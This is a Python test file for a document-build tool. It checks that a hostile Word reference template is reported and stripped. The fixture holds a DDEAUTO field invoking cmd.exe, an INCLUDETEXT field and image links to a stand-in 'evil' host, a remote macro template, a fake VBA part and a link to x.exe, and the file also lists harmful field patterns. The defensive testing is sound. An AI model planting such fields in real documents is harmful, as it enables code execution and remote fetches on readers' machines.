"""A reference document with macros, an attached template and addresses of other machines: told, and none of it in our
documents."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx

from jzdocs.build.pipeline import build
from jzdocs.project import find_project
from jzdocs.style.reference_harm import is_harmful_field
from reading import part

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FIELDS = (
    '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>链接字</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rIdGood"><w:r><w:t>好链接</w:t></w:r></w:hyperlink>'
    '<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "><w:r><w:t>域字</w:t></w:r></w:fldSimple>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>TEXT "http://evil/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>包含字</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="http://evil/c"><v:imagedata r:id="rIdX"/>'
    "</v:shape></w:pict></w:r></w:p></w:hdr>"
)


def relationship(id_: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "/" in kind else TYPES + kind
    return f'<Relationship Id="{id_}" Type="{kind}" Target="{target}"{mode}/>'


def hostile_reference_document() -> bytes:
    plain = io.BytesIO()
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "某某市数据局"
    document.core_properties.author = document.core_properties.category = "evil user"
    document.save(plain)
    with zipfile.ZipFile(plain) as archive:
        parts = {name: archive.read(name).decode("latin-1") for name in archive.namelist()}
    parts["word/vbaProject.bin"] = "VBA"
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        "</w:hdr>", FIELDS.encode().decode("latin-1").replace("r:id", f'xmlns:r="{TYPES[:-1]}" r:id')
    )
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    for name, new in {
        "_rels/.rels": relationship("rIdC", "custom-properties", "docProps/custom.xml", external=False),
        "word/_rels/document.xml.rels": relationship(
            "rIdV",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            external=False,
        ),
        "word/_rels/settings.xml.rels": relationship("rId1", "attachedTemplate", "http://evil/t.dotm"),
        "word/_rels/header1.xml.rels": relationship("rIdH", "hyperlink", "file:///c:/x.exe")
        + relationship("rIdGood", "hyperlink", "https://a.cn")
        + relationship("rIdX", "image", "http://evil/t.png"),
    }.items():
        parts[name] = parts.get(name, empty).replace("</Relationships>", new + "</Relationships>")
    parts["docProps/custom.xml"] = "<Properties>evil name</Properties>"
    types = parts["[Content_Types].xml"].replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    parts["[Content_Types].xml"] = types.replace(
        "<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text.encode("latin-1"))
    return packed.getvalue()


def test_harm_in_a_reference_document_is_told_and_left_out(tmp_path: Path) -> None:
    (tmp_path / "templates/house").mkdir(parents=True)
    (tmp_path / "templates/house/reference.docx").write_bytes(hostile_reference_document())
    (tmp_path / "jzdocs.toml").write_text('template = "house"\nsources = "."\n', encoding="utf-8")
    (tmp_path / "a.md").write_text("# 章\n\n正文。\n", encoding="utf-8")
    project = find_project(tmp_path)
    assert project
    built = build(tmp_path / "a.md", project)
    (told,) = [finding.worded()[0] for finding in built.report if finding.code == "X135"]
    for name in ("macros", "x.exe", "t.png", "t.dotm", "DDEAUTO", "INCLUDETEXT"):
        assert name in told
    (tmp_path / "a.docx").write_bytes(built.files["a.docx"])
    with zipfile.ZipFile(tmp_path / "a.docx") as archive:
        assert not [name for name in archive.namelist() if "vba" in name or "custom.xml" in name]
        for name in archive.namelist():
            assert b"evil" not in archive.read(name) and b"x.exe" not in archive.read(name), name
    docx.Document(str(tmp_path / "a.docx"))  # it is whole
    header = part(tmp_path / "a.docx", "word/header1.xml")
    assert "".join(header.itertext()) == "某某市数据局链接字好链接域字包含字"
    assert not list(header.iter("{*}fldSimple", "{*}instrText", "{*}pict"))


def test_fields_that_fetch_or_run_are_told_from_those_that_count() -> None:
    for instruction in (" dde x", 'HYPERLINK "ms-word:x"', 'HYPERLINK "\\\\\\\\host\\\\a"', " LINK Excel.Sheet"):
        assert is_harmful_field(instruction), instruction
    for instruction in (
        " PAGE ",
        "NUMPAGES",
        'STYLEREF "heading 1"',
        'HYPERLINK "https://a.cn"',
        "HYPERLINK \\l a",
        "",
    ):
        assert not is_harmful_field(instruction), instruction
